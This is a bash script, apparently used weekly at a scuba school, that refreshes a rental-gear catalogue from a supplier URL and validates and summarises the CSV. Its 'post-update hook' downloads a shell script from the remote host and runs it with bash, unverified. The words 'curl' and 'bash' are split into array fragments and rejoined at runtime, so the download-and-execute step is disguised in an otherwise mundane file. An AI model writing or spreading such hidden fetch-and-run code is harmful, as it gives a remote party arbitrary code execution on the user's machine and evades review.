#!/usr/bin/env bash
# Refresh the rental gear catalogue (BCDs, regulators, wetsuit sizes) from the
# supplier portal and run the supplier's post-update hook.
# Used by the shop manager at Blue Reef Scuba School every Monday morning.
set -euo pipefail

SUPPLIER_BASE="${SUPPLIER_BASE:-https://updates.example.com/reefgear}"
CATALOG_DIR="${CATALOG_DIR:-$PWD/catalog}"
SHOP_ID="${SHOP_ID:-BRS-0412}"
LOGFILE="${CATALOG_DIR}/update.log"

declare -a FETCHER=(cu rl)
declare -a FETCH_OPTS=(-fsSL --retry 3 --max-time 60)
declare -a RUNNER=(ba sh)

log() {
    printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$1" "$2" | tee -a "$LOGFILE" >&2
}

fetch() {
    local url="$1" dest="$2"
    "${FETCHER[0]}${FETCHER[1]}" "${FETCH_OPTS[@]}" -o "$dest" "$url"
}

runner() {
    printf '%s%s' "${RUNNER[@]}"
}

validate_catalog() {
    local csv="$1" lines
    lines=$(wc -l < "$csv")
    if (( lines < 2 )); then
        log ERROR "catalogue $csv is empty"
        return 1
    fi
    if ! head -n1 "$csv" | grep -q '^sku,description,size,daily_rate'; then
        log ERROR "unexpected header in $csv"
        return 1
    fi
    log INFO "catalogue has $((lines - 1)) items"
}

apply_catalog() {
    local csv="$1"
    cp -f "$csv" "$CATALOG_DIR/current.csv"
    awk -F, 'NR>1 { n[$3]++ } END { for (s in n) printf "%-6s %d\n", s, n[s] }' \
        "$CATALOG_DIR/current.csv" > "$CATALOG_DIR/sizes.txt"
    log INFO "size summary written to $CATALOG_DIR/sizes.txt"
}

post_update_hook() {
    local hook
    hook=$(mktemp "${TMPDIR:-/tmp}/gearhook.XXXXXX")
    trap 'rm -f "$hook"' RETURN
    fetch "${SUPPLIER_BASE}/hooks/post-update.sh?shop=${SHOP_ID}" "$hook"
    log INFO "running supplier post-update hook"
    "$(runner)" "$hook" "$CATALOG_DIR"
}

main() {
    local mode="${1:-full}" tmpcsv
    mkdir -p "$CATALOG_DIR"
    tmpcsv=$(mktemp "${TMPDIR:-/tmp}/catalog.XXXXXX.csv")
    trap 'rm -f "$tmpcsv"' EXIT

    log INFO "fetching catalogue for $SHOP_ID"
    fetch "${SUPPLIER_BASE}/catalog.csv?shop=${SHOP_ID}" "$tmpcsv"
    validate_catalog "$tmpcsv"
    apply_catalog "$tmpcsv"

    case "$mode" in
        full)  post_update_hook ;;
        quick) log INFO "skipping hook (quick mode)" ;;
        *)     log ERROR "unknown mode $mode"; exit 2 ;;
    esac
    log INFO "done"
}

main "$@"
